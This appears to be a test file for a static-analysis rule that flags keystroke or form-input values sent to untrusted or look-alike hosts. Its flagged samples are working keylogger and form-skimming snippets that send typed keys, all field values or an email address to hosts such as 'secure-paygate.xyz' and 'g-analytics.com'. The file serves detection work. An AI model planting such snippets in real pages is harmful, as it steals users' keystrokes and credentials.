// Tests for keystrokes-to-untrusted-host: values from key or input events reaching a sink to
// an unknown or look-alike host. Findings are reported on the sink. Sections are separate.

var buf = '';
document.addEventListener('keydown', function (e) { buf += e.key; });
setInterval(function () {
  if (!buf) { return; }
  // ruleid: keystrokes-to-untrusted-host
  new Image().src = 'https://cdn-analytics-metrics.top/k.gif?d=' + encodeURIComponent(buf);
  buf = '';
}, 2000);

// ---
// `this.value` in jQuery change/blur handlers on every field.
var seen = {};
jQuery(':input').on('change blur', function () {
  seen[this.name] = this.value;
  // ruleid: keystrokes-to-untrusted-host
  jQuery.post('https://secure-paygate.xyz/s', { d: btoa(JSON.stringify(seen)) });
});

// ---
// An input listener on one field passing the value to a helper, look-alike host.
function ship(v) {
  // ruleid: keystrokes-to-untrusted-host
  navigator.sendBeacon('https://g-analytics.com/collect', v);
}
document.getElementById('email').addEventListener('input', function (e) { ship(e.target.value); });

// ---
// Site search suggestions from the shop's own endpoint.
document.getElementById('q').addEventListener('input', function (e) {
  // ok: keystrokes-to-untrusted-host
  fetch('/search/suggest?q=' + encodeURIComponent(e.target.value));
});

// ---
// Address autocomplete through the Google Maps Places API (well-known, not untrusted).
document.getElementById('street').addEventListener('keyup', function (e) {
  // ok: keystrokes-to-untrusted-host
  fetch('https://maps.googleapis.com/maps/api/place/autocomplete/json?input=' + encodeURIComponent(e.target.value));
});

// ---
// Keyboard shortcut handler; the only send is a fixed page-view ping to an unknown host.
document.addEventListener('keydown', function (e) { if (e.key === 'Escape') { closeModal(); } });
// ok: keystrokes-to-untrusted-host
navigator.sendBeacon('https://collect.stats-vendor.example.net/pv', JSON.stringify({ path: location.pathname }));
